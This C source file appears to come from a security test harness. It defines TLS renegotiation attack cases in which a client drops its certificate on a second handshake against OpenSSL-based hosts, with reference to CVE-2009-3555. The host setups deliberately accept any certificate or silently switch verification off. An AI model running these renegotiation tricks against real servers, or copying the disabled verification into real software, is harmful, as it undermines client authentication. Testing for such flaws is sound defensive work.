/* A second handshake on a connection of the edge's own: whoever holds that connection drops the
 * certificate, and the application goes on as if it were there. */
#include "attack.h"
#include "test.h"

#include <openssl/ssl.h>
#include <string.h>

/* ---- the host ---- */

static int take_any(int good, X509_STORE_CTX *store_context)
{
	(void)good, (void)store_context;
	return 1;
}

/* Default until 3.0. */
static void allow_renegotiation(SSL_CTX *context)
{
#ifdef SSL_OP_ALLOW_CLIENT_RENEGOTIATION
	SSL_CTX_set_options(context, SSL_OP_ALLOW_CLIENT_RENEGOTIATION);
#endif
	SSL_CTX_set_options(context, SSL_OP_NO_TICKET);
}

static void allow_and_ask(SSL_CTX *context)
{
	allow_renegotiation(context);
	SSL_CTX_set_verify(context, SSL_VERIFY_PEER, take_any);
}

/* As the default of some: who has been asked is not asked again. */
static void allow_and_ask_once(SSL_CTX *context)
{
	allow_renegotiation(context);
	SSL_CTX_set_verify(context, SSL_VERIFY_PEER | SSL_VERIFY_CLIENT_ONCE, take_any);
}

/* After the request, as Apache does for a folder that wants a certificate.  Without AUTO_RETRY a
 * read ends with the handshake that it went through. */
static void renegotiate_and_answer(SSL *ssl)
{
	SSL_clear_mode(ssl, SSL_MODE_AUTO_RETRY);
	if (!host_accept(ssl) || !host_read(ssl))
		return;
	if (SSL_renegotiate(ssl) == 1 && SSL_do_handshake(ssl) == 1) {
		/* That was the request for it; now the client's hello. */
		char nothing;

		SSL_peek(ssl, &nothing, 1);
	}
	host_answer(ssl);
}

/* The second handshake is one of which nobody hears, and which asks for nothing. */
static bool is_second;

static void hear_nothing(const SSL *ssl, int where, int value)
{
	(void)ssl, (void)where, (void)value;
}

static int undo_demand_unseen(SSL *ssl, int *alert, void *argument)
{
	(void)alert, (void)argument;
	if (is_second) {
		HOST_ORIGINAL(SSL_set_verify)(ssl, SSL_VERIFY_NONE, NULL);
		HOST_ORIGINAL(SSL_set_info_callback)(ssl, hear_nothing);
	}
	return SSL_TLSEXT_ERR_OK;
}

static void allow_and_undo_unseen(SSL_CTX *context)
{
	allow_renegotiation(context);
	SSL_CTX_set_tlsext_servername_callback(context, undo_demand_unseen);
}

static bool read_by_size(SSL *ssl)
{
	char request[4096];
	size_t length;

	if (SSL_read_ex(ssl, request, sizeof(request), &length) != 1)
		return false;
	host_is_in("request");
	return true;
}

/* One call goes through the handshake, and comes back with what was sent behind it. */
static void read_past_handshake(SSL *ssl, bool (*read)(SSL *ssl))
{
	is_second = false;
	if (!host_accept(ssl))
		return;
	is_second = true;
	HOST_ORIGINAL(SSL_clear_options)(ssl, SSL_OP_NO_RENEGOTIATION);
	if (read(ssl) || (host_accept(ssl) && read(ssl)))
		host_answer(ssl);
}

static void read_past_second(SSL *ssl)
{
	read_past_handshake(ssl, host_read);
}

static void read_past_second_by_size(SSL *ssl)
{
	read_past_handshake(ssl, read_by_size);
}

/* ---- the attacker, on the edge's connection ---- */

static int handshakes;

static void count_handshakes(const SSL *ssl, int where, int value)
{
	(void)ssl, (void)value;
	handshakes += where == SSL_CB_HANDSHAKE_DONE;
}

static void count(SSL_CTX *context, SSL *ssl)
{
	(void)context;
	handshakes = 0;
	SSL_set_info_callback(ssl, count_handshakes);
}

static bool renegotiate(SSL *ssl)
{
	SSL_certs_clear(ssl);
	return SSL_renegotiate(ssl) == 1 && SSL_do_handshake(ssl) == 1 && handshakes == 2;
}

/* What libssl makes of it is the server's business. */
static bool drop_certificate(SSL *ssl)
{
	SSL_certs_clear(ssl);
	return true;
}

/* libssl's client gives a connection up on which the other side declines; so it is another one that
 * must be served. */
static void try_and_come_again(struct victim *victim, const struct client *client,
			       struct outcome *outcome)
{
	struct client plain = *client;
	struct outcome tried;

	attack_run(victim, client, &tried);
	plain.prepare = NULL;
	plain.trick = NULL;
	attack_run(victim, &plain, outcome);
	outcome->tricked = tried.tricked && strstr(tried.application, SERVER_ANSWER) != NULL;
	outcome_clear(&tried);
}

static void see_second_handshake(struct victim *victim, const struct client *client,
				 struct outcome *outcome)
{
	attack_run(victim, client, outcome);
	outcome->tricked = handshakes == 2;
}

#define NOBODY_LATER                               \
	.client = {.certificate = "edge",          \
		   .prepare = count,               \
		   .trick = renegotiate,           \
		   .server_name = "shop.example"}, \
	.versions = ONLY_1_2, .reason = "no-certificate", .at_the_end = true

static const struct attack attacks[] = {
	{
		.name = "a client that renegotiates without its certificate",
		.source = "RFC 5746, 1; CVE-2009-3555",
		.prepare = allow_renegotiation,
		.attack = try_and_come_again,
		.client = {.certificate = "edge", .prepare = count, .trick = renegotiate},
		.versions = ONLY_1_2,
	},
	{
		.name = "a client that renegotiates without its certificate, where the host asks",
		.source = "OpenSSL ssl/statem/statem_srvr.c, tls_process_client_certificate()",
		.prepare = allow_and_ask,
		.attack = try_and_come_again,
		.client = {.certificate = "edge", .prepare = count, .trick = renegotiate},
		.versions = ONLY_1_2,
	},
	{
		.name = "a client that renegotiates, and is asked only once",
		.source = "SSL_CTX_set_verify(3), SSL_VERIFY_CLIENT_ONCE",
		.prepare = allow_and_ask_once,
		.attack = try_and_come_again,
		.client = {.certificate = "edge", .prepare = count, .trick = renegotiate},
		.versions = ONLY_1_2,
	},
	{
		.name = "a client without its certificate where the host renegotiates",
		.source = "RFC 5246, 7.4.1.1; SSL_renegotiate(3)",
		.prepare = allow_renegotiation,
		.serve = renegotiate_and_answer,
		.attack = see_second_handshake,
		.client = {.certificate = "edge", .prepare = count, .trick = drop_certificate},
		.versions = ONLY_1_2,
	},
	{
		.name = "a request behind a second handshake that the same call goes through",
		.source = "OpenSSL ssl/record/rec_layer_s3.c, ssl3_read_bytes(); dlsym(3)",
		.prepare = allow_and_undo_unseen,
		.serve = read_past_second,
		NOBODY_LATER,
	},
	{
		.name = "a request behind a second handshake that SSL_read_ex() goes through",
		.source = "SSL_read_ex(3); dlsym(3)",
		.prepare = allow_and_undo_unseen,
		.serve = read_past_second_by_size,
		NOBODY_LATER,
	},
};

int main(int count_of_words, char **words)
{
	return attacks_main(count_of_words, words, "renegotiation", attacks,
			    sizeof(attacks) / sizeof(attacks[0]));
}
